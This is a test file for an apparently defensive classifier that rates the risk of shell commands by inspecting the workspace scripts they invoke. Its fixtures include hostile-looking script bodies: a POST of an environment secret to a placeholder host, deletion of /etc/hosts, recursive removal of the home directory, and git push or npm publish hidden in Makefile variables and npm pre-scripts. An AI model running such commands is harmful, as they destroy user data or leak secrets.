import assert from 'node:assert/strict';
import type { Facts } from '../../../../../src/core/classify/facts.ts';
import { judge, project, riskOf } from '../shell/judge.ts';

const ROOT = '/home/dev/project';

const holding = (files: Readonly<Record<string, string>>): { facts: Facts } => ({
  facts: { ...project, read: (path) => files[path.slice(ROOT.length + 1)] },
});

const CASES: readonly (readonly [risk: string, command: string, files: Readonly<Record<string, string>>])[] = [
  ['MEDIUM', 'python3 a.py', { 'a.py': 'import os\ndef drop(p):\n  os.remove(p)\n' }],
  [
    'MEDIUM',
    'python3 a.py',
    { 'a.py': "import os, requests\nrequests.post('https://a.example', data=os.environ['K'])\n" },
  ],
  ['MEDIUM', 'python3 a.py', { 'a.py': 'this is no python' }],
  ['MEDIUM', 'node a.js', { 'a.js': "require('http').createServer().listen(3000)\n" }],
  ['MEDIUM', './a.sh', { 'a.sh': '#!/bin/sh\n. ./.env\nnpm start\n' }],
  ['MEDIUM', 'bash a.sh x', { 'a.sh': 'rm -rf "$1"\n' }],
  ['HIGH', 'python3 a.py', { 'a.py': "import os\nos.remove('/etc/hosts')\n" }],
  ['HIGH', './a', { a: "#!/usr/bin/env python3\nimport os\nos.remove('/etc/hosts')\n" }],
  ['HIGH', './a', { a: "#!/usr/bin/env -S node --no-warnings\nrequire('fs').rmSync('/etc/hosts')\n" }],
  ['HIGH', 'node tool', { 'tool.js': "require('child_process').execSync('git push')\n" }],
  [
    'HIGH',
    'bash a.sh',
    { 'a.sh': 'python3 b.py\n', 'b.py': "import os\nos.system('./c.sh')\n", 'c.sh': 'npm publish\n' },
  ],
  ['CRITICAL', 'python3 a.py', { 'a.py': "import shutil\nshutil.rmtree('/home/dev')\n" }],
  ['MEDIUM', 'bash a.sh', { 'a.sh': 'bash b.sh; bash b.sh\n', 'b.sh': 'bash a.sh\n' }],
  ['MEDIUM', 'make', { Makefile: 'all: ; cc -o a.out a.c\nship:\n\tgit push\n' }],
  ['HIGH', 'make', { Makefile: 'ship:\n\tgit push\n' }],
  ['HIGH', 'make test', { Makefile: 'X := $(shell git push)\ntest:\n\ttrue\n' }],
  ['HIGH', 'make -C sub go', { 'sub/Makefile': 'go: dep\ndep:\n\t@npm publish\n' }],
  ['CRITICAL', 'make go', { Makefile: 'D ?= $(HOME)\ngo:\n\t-rm -rf ${D}\n' }],
  ['MEDIUM', 'make go', { Makefile: 'go: go\n\t$(MAKE) go\n' }],
  ['HIGH', 'just up', { justfile: "t := 'push'\nup: \n  git {{t}}\n" }],
  ['MEDIUM', 'npm run a', { 'package.json': '{"scripts":{"a":"npm run b","b":"npm run a"}}' }],
  ['HIGH', 'npm run a', { 'package.json': '{"scripts":{"prea":"git push","a":"tsc"}}' }],
  ['HIGH', 'composer run a', { 'composer.json': '{"scripts":{"a":["@b","X\\\\Y::z"],"b":["git push"]}}' }],
  ['MEDIUM', 'npm run a', { 'package.json': '[' }],
];

describe('code of the workspace that is run', () => {
  for (const [risk, command, files] of CASES)
    it(`${command} is ${risk} with ${JSON.stringify(files)}`, () =>
      assert.equal(riskOf(command, holding(files)), risk));

  it('is part of the context when it was read', () => {
    const files = { 'a.sh': 'python3 b.py\n', 'b.py': 'print(1)\n' };
    assert.deepEqual([...judge('bash a.sh', holding(files)).reads].sort(), [`${ROOT}/a.sh`, `${ROOT}/b.py`]);
  });

  it('is followed in bounded time, however many scripts call each other', () => {
    const names = Array.from({ length: 60 }, (_each, index) => `s${index}.sh`);
    const all = names.map((name) => `bash ${name}`).join('\n');
    assert.equal(riskOf('bash s0.sh', holding(Object.fromEntries(names.map((name) => [name, all])))), 'MEDIUM');
  });
});
